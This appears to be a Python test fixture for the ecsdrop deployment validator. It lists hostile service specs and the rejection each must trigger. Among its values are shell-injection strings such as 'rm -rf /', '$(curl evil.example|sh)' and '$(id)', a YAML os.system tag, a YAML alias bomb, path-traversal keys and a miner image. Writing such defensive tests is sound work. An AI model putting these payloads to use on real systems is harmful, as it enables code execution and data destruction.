"""Hostile specs, and what the installation's guardrails must say about each.

One corpus for every path a spec takes: uploaded to the bucket (test_hostile_uploads, the
whole pipeline on the local cloud), and fed to ``ecsdrop validate --policy``
(tests/integration/cli/test_hostile_specs.py). docs/security.md reports its size.

Each case names the key it is uploaded as and a fragment the rejection must contain:
where (``FILE:LINE:COLUMN: field.path``, or ``FILE: (document)`` for the file as a whole)
and what. Mutations of one valid spec keep each case about its one hostile thing.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from ecsdrop.deploy.load import service_name_near, service_name_of

# The guardrails of the hostile suite's installation (template parameters), and the same
# as an `ecsdrop validate --policy` file.
ACCOUNT = "123456789012"
PARAMETERS = {
    "AllowedRoleNamePrefix": "app-",
    "AllowedRegistries": "*.dkr.ecr.*.amazonaws.com,public.ecr.aws",
    "PlaintextCredentials": "reject",
    "MaxSpecBytes": 32768,
}
POLICY = {
    "allowedRoleArnPrefixes": [f"arn:aws:iam::{ACCOUNT}:role/app-"],
    "allowedRegistries": PARAMETERS["AllowedRegistries"],
    "plaintextCredentials": "reject",
    "maxSpecBytes": PARAMETERS["MaxSpecBytes"],
}
MAX_BYTES = int(PARAMETERS["MaxSpecBytes"])

# What every case starts from: valid under the guardrails above.
VALID = """\
version: 1
service:
  name: {name}
taskDefinition:
  containerDefinitions:
    - name: web
      image: public.ecr.aws/nginx/nginx:1.27
      portMappings:
        - containerPort: 80
"""


@dataclass(frozen=True)
class HostileCase:
    id: str
    body: bytes
    says: str  # a fragment of the rejection: place and message
    key: str = ""
    # Refused by the Load step for where it was uploaded, not for what it says (its text
    # alone is a valid spec): `ecsdrop validate` on the file has nothing to refuse.
    upload_only: bool = False

    @property
    def upload_key(self) -> str:
        return self.key or f"specs/{self.id}.yaml"

    @property
    def service(self) -> str | None:
        """The service the rejection is reported for: the one the key names, or the one its
        file name suggests when the key is itself the problem (None when neither can)."""
        return service_name_of(self.upload_key) or service_name_near(self.upload_key)


def valid(name: str) -> str:
    return VALID.format(name=name)


def _mutated(case_id: str, old: str, new: str, says: str) -> HostileCase:
    text = valid(case_id)
    assert old in text, old
    return HostileCase(case_id, text.replace(old, new, 1).encode(), says)


def _container(case_id: str, extra: str, says: str) -> HostileCase:
    """The valid spec with more fields on its container (indented as they are there)."""
    return _mutated(case_id, "      portMappings:\n", extra + "      portMappings:\n", says)


def _task(case_id: str, extra: str, says: str) -> HostileCase:
    return _mutated(case_id, "  containerDefinitions:\n", extra + "  containerDefinitions:\n", says)


def _where(case_id: str, line: int, column: int, path: str) -> str:
    return f"specs/{case_id}.yaml:{line}:{column}: {path}: "


def _billion_laughs() -> bytes:
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 10) + "]")
    return ("\n".join(lines) + "\n").encode()


CASES: list[HostileCase] = [
    # ------------------------------------------------------------------ size and encoding
    HostileCase(
        "oversized",
        valid("oversized").encode() + b"# " + b"x" * MAX_BYTES + b"\n",
        f"specs/oversized.yaml: (document): the file is {len(valid('oversized')) + MAX_BYTES + 3}"
        f" bytes; a spec may be at most {MAX_BYTES} bytes",
    ),
    HostileCase(
        "deep-nesting",
        b"version: 1\nx: " + b"[" * 10_000 + b"]" * 10_000 + b"\n",
        "specs/deep-nesting.yaml:2:204: (document): nesting is deeper than 40 levels",
    ),
    HostileCase(
        "deep-nesting-json",
        b'{"x": ' + b"[" * 10_000 + b"]" * 10_000 + b"}\n",
        "specs/deep-nesting-json.json: (document): nesting is deeper than 40 levels",
        key="specs/deep-nesting-json.json",
    ),
    HostileCase(
        "billion-laughs",
        _billion_laughs(),
        "the document expands to more than 20000 values (YAML aliases repeating large parts?)",
    ),
    HostileCase(
        "not-utf8",
        valid("not-utf8").replace("name: web", "name: caf\xe9").encode("latin-1"),
        "specs/not-utf8.yaml:6:16: (document): not UTF-8 text (byte 0xe9)",
    ),
    HostileCase(
        "utf16",
        valid("utf16").encode("utf-16"),
        "specs/utf16.yaml:1:1: (document): not UTF-8 text (byte 0xff)",
    ),
    HostileCase(
        "binary",
        bytes(range(256)) * 16,
        "specs/binary.yaml:2:118: (document): not UTF-8 text (byte 0x80)",
    ),
    HostileCase(
        "nul-bytes",
        valid("nul-bytes").replace("name: web", "name: web\x00\x00").encode(),
        "specs/nul-bytes.yaml:6:16: (document): binary data (a NUL character) in a text spec",
    ),
    HostileCase(
        "duplicate-keys-json",
        json.dumps({"version": 1, "service": {"name": "duplicate-keys-json"}}, indent=2)
        .replace('  "service"', '  "service": {"name": "other"},\n  "service"')
        .encode(),
        "specs/duplicate-keys-json.json:4:3: service: duplicate key 'service' (first on line 3)",
        key="specs/duplicate-keys-json.json",
    ),
    HostileCase(
        "duplicate-keys-yaml",
        valid("duplicate-keys-yaml").replace("version: 1\n", "version: 1\nversion: 2\n").encode(),
        "specs/duplicate-keys-yaml.yaml:2:1: version: duplicate key 'version' (first on line 1)",
    ),
    HostileCase(
        "yaml-python-tag",
        valid("yaml-python-tag")
        .replace("image: public", "image: !!python/object/apply:os.system ['id'] #")
        .encode(),
        "specs/yaml-python-tag.yaml:7:14: taskDefinition.containerDefinitions[0].image: "
        "unsupported YAML tag 'tag:yaml.org,2002:python/object/apply:os.system'",
    ),
    # A float with no fraction is an integer to JSON Schema, not to the rules or ECS: it
    # used to pass the schema and crash the defaults (an AssertionError, not a rejection).
    _task(
        "integral-float",
        "  cpu: 1024.0\n",
        _where("integral-float", 5, 3, "taskDefinition.cpu")
        + "expected a string or an integer, got a number 1024.0",
    ),
    # ------------------------------------------------------------------ names
    _mutated(
        "inject-semicolon",
        "name: inject-semicolon",
        'name: "inject-semicolon; rm -rf /"',
        _where("inject-semicolon", 3, 3, "service.name")
        + '"inject-semicolon; rm -rf /" must be a DNS label',
    ),
    _mutated(
        "inject-subshell",
        "name: inject-subshell",
        'name: "$(curl evil.example|sh)"',
        _where("inject-subshell", 3, 3, "service.name")
        + '"$(curl evil.example|sh)" must be a DNS label',
    ),
    _mutated(
        "inject-backticks",
        "name: web\n",
        "name: web`reboot`\n",
        _where("inject-backticks", 6, 7, "taskDefinition.containerDefinitions[0].name")
        + '"web`reboot`" must be 1-255 letters',
    ),
    _mutated(
        "inject-newline",
        "name: web\n",
        'name: "web\\nrm -rf /"\n',
        _where("inject-newline", 6, 7, "taskDefinition.containerDefinitions[0].name")
        + '"web\\nrm -rf /" must be 1-255 letters',
    ),
    _mutated(
        "trailing-newline-name",
        "name: web\n",
        'name: "web\\n"\n',
        _where("trailing-newline-name", 6, 7, "taskDefinition.containerDefinitions[0].name")
        + '"web\\n" must be 1-255 letters',
    ),
    _task(
        "inject-family",
        '  family: "$(id)"\n',
        _where("inject-family", 5, 3, "taskDefinition.family") + '"$(id)" must be 1-255 letters',
    ),
    _mutated(
        "inject-cluster",
        "  name: inject-cluster\n",
        '  name: inject-cluster\n  cluster: "ecsdrop\\n"\n',
        _where("inject-cluster", 4, 3, "service.cluster") + '"ecsdrop\\n" must be 1-255 letters',
    ),
    _mutated(
        "unicode-lookalike",
        "name: unicode-lookalike",
        "name: unicode-lookalik\u0435",  # the last letter is CYRILLIC SMALL LETTER IE
        _where("unicode-lookalike", 3, 3, "service.name")
        + '"unicode-lookalik\\u0435" must be a DNS label',
    ),
    HostileCase(
        "name-not-the-file",
        valid("payments").encode(),
        "specs/name-not-the-file.yaml: service.name: must be 'name-not-the-file', "
        "the name of the file specs/name-not-the-file.yaml",
        upload_only=True,
    ),
    HostileCase(
        "path-traversal",
        valid("x").encode(),
        "(document): a spec lives at specs/<service>.yaml (or .yml, .json)",
        key="specs/../x.yaml",
        upload_only=True,
    ),
    HostileCase(
        "nested-key",
        valid("web").encode(),
        "(document): a spec lives at specs/<service>.yaml (or .yml, .json)",
        key="specs/team/web.yaml",
        upload_only=True,
    ),
    HostileCase(
        "injection-in-key",
        valid("web").encode(),
        "(document): a spec lives at specs/<service>.yaml (or .yml, .json)",
        key="specs/web;reboot.yaml",
        upload_only=True,
    ),
    # ------------------------------------------------------------------ guardrails
    _container(
        "privileged",
        "      privileged: true\n",
        _where("privileged", 8, 7, "taskDefinition.containerDefinitions[0].privileged")
        + "privileged containers are not allowed",
    ),
    _task(
        "host-network",
        "  networkMode: host\n",
        _where("host-network", 5, 3, "taskDefinition.networkMode")
        + "Fargate needs networkMode awsvpc, not host",
    ),
    _task(
        "role-outside-prefix",
        f"  taskRoleArn: arn:aws:iam::{ACCOUNT}:role/admin\n",
        _where("role-outside-prefix", 5, 3, "taskDefinition.taskRoleArn")
        + f"role arn:aws:iam::{ACCOUNT}:role/admin is outside the role prefixes",
    ),
    _task(
        "role-of-another-account",
        "  executionRoleArn: arn:aws:iam::999999999999:role/app-web\n",
        _where("role-of-another-account", 5, 3, "taskDefinition.executionRoleArn")
        + "role arn:aws:iam::999999999999:role/app-web is outside the role prefixes",
    ),
    _task(
        "role-by-bare-name",
        "  taskRoleArn: app-web\n",
        _where("role-by-bare-name", 5, 3, "taskDefinition.taskRoleArn")
        + "give the role's full ARN",
    ),
    _mutated(
        "registry-outside-allow-list",
        "image: public.ecr.aws/nginx/nginx:1.27",
        "image: ghcr.io/evil/miner:latest",
        _where("registry-outside-allow-list", 7, 7, "taskDefinition.containerDefinitions[0].image")
        + "registry ghcr.io is not allowed by this installation",
    ),
    _mutated(
        "docker-hub-image",
        "image: public.ecr.aws/nginx/nginx:1.27",
        "image: nginx:1.27",
        _where("docker-hub-image", 7, 7, "taskDefinition.containerDefinitions[0].image")
        + "registry docker.io is not allowed by this installation",
    ),
    _container(
        "plaintext-password",
        "      environment:\n        - name: DB_PASSWORD\n          value: hunter2\n",
        _where(
            "plaintext-password",
            10,
            11,
            "taskDefinition.containerDefinitions[0].environment[0].value",
        )
        + "DB_PASSWORD looks like a secret in plain text",
    ),
    _container(
        "plaintext-access-key",
        "      environment:\n        - name: CONFIG\n          value: AKIAABCDEFGHIJKLMNOP\n",
        _where(
            "plaintext-access-key",
            10,
            11,
            "taskDefinition.containerDefinitions[0].environment[0].value",
        )
        + "CONFIG looks like a secret in plain text",
    ),
]
